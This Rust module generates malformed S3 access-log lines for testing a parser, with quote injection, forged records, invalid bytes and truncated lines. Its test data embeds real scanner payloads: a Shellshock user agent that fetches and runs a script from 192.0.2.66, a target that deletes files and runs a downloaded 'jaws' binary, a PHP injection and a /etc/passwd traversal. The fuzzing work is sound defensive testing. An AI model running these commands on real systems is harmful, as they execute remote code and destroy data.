//! Lines that break other parsers: quotes and forged records in text that clients control, bytes
//! that are no text, values out of range, and lines that were damaged on the way.

use super::line;
use super::random::Random;

/// User agents that scanners and attackers send.
const USER_AGENTS: [&str; 7] = [
    "() { :; }; /bin/bash -c \"wget http://192.0.2.66/x -O- | sh\"",
    "\"",
    "\"quoted\" \"twice\"",
    "bot\" 200 - 1 1 1 1 \"-\" \"x",
    "x [06/Feb/2019:00:00:38 +0000] 192.0.2.1 - AAAAAAAAAAAAAAAA REST.GET.OBJECT k \"GET / HTTP/1.1\" 200 - 1 1 1 1 \"-\" \"y",
    "tool \\\"v1\\\" \\x",
    "日本語ブラウザ/1.0 \u{1f980}",
];

/// Request targets that scanners send; S3 answers 400 and logs them.
const TARGETS: [&str; 4] = [
    "/shell?cd+/tmp;rm -rf *;wget http://192.0.2.66/jaws;sh /tmp/jaws",
    "/report?response-content-disposition=attachment; filename=\"q1 final.csv\"",
    "/index.php?s=/<?php echo \"a\"; ?>",
    "/%%32%65%%32%65/\\..\\etc/passwd",
];

/// Appends one line, without its newline.
pub(super) fn append(random: &mut Random, now: i64, log: &mut Vec<u8>) {
    match random.below(10) {
        0..=3 => log.extend_from_slice(request(random, now).as_bytes()),
        4 => append_with_bytes(random, now, log),
        5 => append_out_of_range(random, now, log),
        6 => append_long(random, now, log),
        7 => append_cut_off(random, now, log),
        8 => append_glued(random, now, log),
        _ => log.extend_from_slice(b"Record format: [BucketOwner Bucket Time RemoteIP Requester]"),
    }
}

fn request(random: &mut Random, now: i64) -> String {
    format!(
        "{} {} - {} REST.GET.OBJECT - \"GET {} HTTP/1.1\" 400 InvalidURI 280 - {} - \"{}\" \"{}\" - {}",
        line::head(now),
        line::address(random),
        line::request_id(random),
        random.pick(&TARGETS),
        random.below(50),
        random.pick(&["-", "say \"cheese\"", "https://www.example.com/?q=\"a b\""]),
        random.pick(&USER_AGENTS),
        line::tail(random)
    )
}

/// NUL, control bytes and bytes that are no UTF-8 in the user agent.
fn append_with_bytes(random: &mut Random, now: i64, log: &mut Vec<u8>) {
    let request = request(random, now).replacen("\" - ", "\u{1}\u{0}\u{ffff}\" - ", 1);
    log.extend(request.bytes().map(|byte| if byte == 1 { 0xff } else { byte }));
}

fn append_out_of_range(random: &mut Random, now: i64, log: &mut Vec<u8>) {
    let request = request(random, now).replacen(" 280 ", " 99999999999999999999 ", 1);
    log.extend_from_slice(request.as_bytes());
}

/// A user agent wider than its column.
fn append_long(random: &mut Random, now: i64, log: &mut Vec<u8>) {
    let padding = random.word(line::BASE64, 9000);
    let request = request(random, now).replacen("\" - ", &format!("{padding}\" - "), 1);
    log.extend_from_slice(request.as_bytes());
}

/// The line stops before its status.
fn append_cut_off(random: &mut Random, now: i64, log: &mut Vec<u8>) {
    let request = request(random, now);
    let end = 120 + random.below(60) as usize;
    log.extend_from_slice(request.as_bytes().get(..end).unwrap_or_default());
}

/// A record stops inside its requester and the next one follows on the same line.
fn append_glued(random: &mut Random, now: i64, log: &mut Vec<u8>) {
    log.extend_from_slice(format!("{} 192.0.2.9 arn:aws:ia", line::head(now)).as_bytes());
    line::append(random, now, log);
}
